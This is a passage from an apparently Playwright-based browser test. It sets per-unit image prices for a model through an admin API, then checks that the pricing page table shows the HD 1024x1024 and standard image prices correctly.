    world.admin("PUT", f"/admin/v1/prices/{model}",
                {"prompt": 0, "completion": 0, "units": {"image": 2, "image/1024x1024/hd": 4.5}})
    world.channel([model])
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/pricing")
    hd = page.locator(f'#pricing-units-body tr[data-model="{model}"][data-unit="image/1024x1024/hd"]')
    expect(hd).to_contain_text("4.50")
    expect(hd).to_contain_text("1024x1024 · hd")
    expect(page.locator(f'#pricing-units-body tr[data-model="{model}"][data-unit="image"]')).to_contain_text("2.00")
    expect(page.locator(f'#pricing-body tr[data-model="{model}"]')).to_have_count(1)
    ctx.close()
